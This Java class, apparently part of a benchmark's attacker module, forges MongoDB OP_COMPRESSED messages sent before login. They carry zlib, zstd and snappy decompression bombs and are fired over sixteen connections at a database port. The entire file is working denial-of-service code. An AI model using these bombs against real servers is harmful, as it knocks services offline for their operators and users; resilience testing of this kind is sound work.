package dev.mayfly.bench.attacker;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.List;
import java.util.zip.Deflater;

/** OP_COMPRESSED without negotiation, before a login, from kilobytes to 48 MB. */
final class CompressionBombs {
  private static final int CONNECTIONS = 16;
  private static final int UNPACKED_BYTES = 47_000_000;
  private static final int OP_COMPRESSED = 2012;
  private static final int OP_MSG = 2013;
  private static final byte SNAPPY = 1;
  private static final byte ZLIB = 2;
  private static final byte ZSTD = 3;

  private CompressionBombs() {}

  static void start(Arena arena) {
    List<byte[]> bombs =
        List.of(message(ZLIB, zlib()), message(ZSTD, zstd()), message(SNAPPY, snappy()));
    arena.threads(CONNECTIONS, thread -> send(arena, bombs.get(thread % bombs.size())));
  }

  private static void send(Arena arena, byte[] bomb) throws IOException {
    try (Socket socket = arena.open(Port.MONGO)) {
      socket.getOutputStream().write(bomb);
      arena.tally().count(socket.getInputStream().read() < 0 ? "closed" : "answered");
    }
  }

  private static byte[] message(byte compressor, byte[] packed) {
    return ByteBuffer.allocate(25 + packed.length)
        .order(ByteOrder.LITTLE_ENDIAN)
        .putInt(25 + packed.length)
        .putInt(1)
        .putInt(0)
        .putInt(OP_COMPRESSED)
        .putInt(OP_MSG)
        .putInt(UNPACKED_BYTES)
        .put(compressor)
        .put(packed)
        .array();
  }

  private static byte[] zlib() {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
    deflater.setInput(new byte[UNPACKED_BYTES]);
    deflater.finish();
    byte[] packed = new byte[UNPACKED_BYTES / 100];
    int length = deflater.deflate(packed);
    deflater.end();
    return java.util.Arrays.copyOf(packed, length);
  }

  /** A frame of blocks that each repeat one byte (RFC 8878). */
  private static byte[] zstd() {
    int block = 128 << 10;
    ByteBuffer frame =
        ByteBuffer.allocate(16 + 4 * (UNPACKED_BYTES / block + 1)).order(ByteOrder.LITTLE_ENDIAN);
    frame.putInt(0xFD2FB528).put((byte) 0xA0).putInt(UNPACKED_BYTES);
    for (int left = UNPACKED_BYTES; left > 0; left -= block) {
      int header = Math.min(left, block) << 3 | 1 << 1 | (left <= block ? 1 : 0);
      frame.put((byte) header).put((byte) (header >> 8)).put((byte) (header >> 16)).put((byte) 0);
    }
    byte[] packed = new byte[frame.position()];
    frame.flip().get(packed);
    return packed;
  }

  /** One literal byte, and copies of 64 bytes of what is there. */
  private static byte[] snappy() {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    for (int left = UNPACKED_BYTES; left > 0; left >>>= 7) {
      packed.write(left > 127 ? left & 127 | 128 : left);
    }
    packed.write(0);
    packed.write(0);
    for (int left = UNPACKED_BYTES - 1; left > 0; left -= 64) {
      packed.write(Math.min(left, 64) - 1 << 2 | 2);
      packed.write(1);
      packed.write(0);
    }
    return packed.toByteArray();
  }
}
